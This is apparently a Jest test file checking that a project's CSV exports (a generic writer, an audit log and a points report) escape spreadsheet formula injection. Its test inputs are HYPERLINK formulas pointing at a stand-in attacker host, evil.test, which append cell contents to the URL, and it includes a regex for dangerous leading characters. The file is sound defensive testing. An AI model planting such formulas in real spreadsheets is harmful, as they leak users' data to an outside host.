import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { auditCsv } from '../audit/audit-csv.js';
import { pointsCsv } from '../points/points-csv.js';
import { writeCsv } from './csv.js';

const signs = ['=', '+', '-', '@', '\t', '\r', '\n'];
const formulas = signs.map((sign) => `${sign}HYPERLINK("https://evil.test/?"&A1;"klik")`);
/** What a spreadsheet sees in each cell of a file. */
const cellsOf = (csv: string, delimiter: string): string[] => parse(csv.replace(/^\uFEFF/, ''), { delimiter, relax_column_count: true }).flat();
const dangerous = (cell: string) => /^[=+\-@\t\r\n]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);

const auditFile = (text: string) => auditCsv([{
  id: 'x', position: 1, at: new Date(0), actorId: null, actorName: text, action: text, subjectKind: text, subjectId: null, subjectName: text, facts: { [text]: text }, requestId: text,
}], 'id');
const pointsFile = (text: string) => pointsCsv(
  { year: 2026, total: -4, counted: 0, entries: [{ recordedAt: '2026-11-22T00:00:00.000Z', title: text, competencyClass: 'technical', kind: 'reversal', hours: -4, minutes: -180, activityKind: 16, evidenceKind: 'external', counted: null, rule: { regulation: text, article: text } }] } as unknown as Parameters<typeof pointsCsv>[0], 'id',
);

describe('every file for spreadsheets (X06)', () => {
  test.each(formulas)('%j is text in each cell where somebody\'s words stand', (text) => {
    for (const file of [writeCsv([[text, 'a'], ['b', text]]), auditFile(text), pointsFile(text)]) {
      expect(cellsOf(file, ';').filter(dangerous)).toEqual([]);
      expect(cellsOf(file, ';').filter((cell) => cell.includes('HYPERLINK')).length).toBeGreaterThan(0);
    }
  });

  test('any words stay one cell and come back as they were, but for the apostrophe', () => {
    fc.assert(fc.property(fc.array(fc.string({ maxLength: 40 }), { minLength: 1, maxLength: 6 }), (words) => {
      fc.pre(words.some((word) => word !== ''));
      const cells = cellsOf(writeCsv([words]), ';');
      expect(cells.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n])/, ''))).toEqual(words);
    }));
  });
});
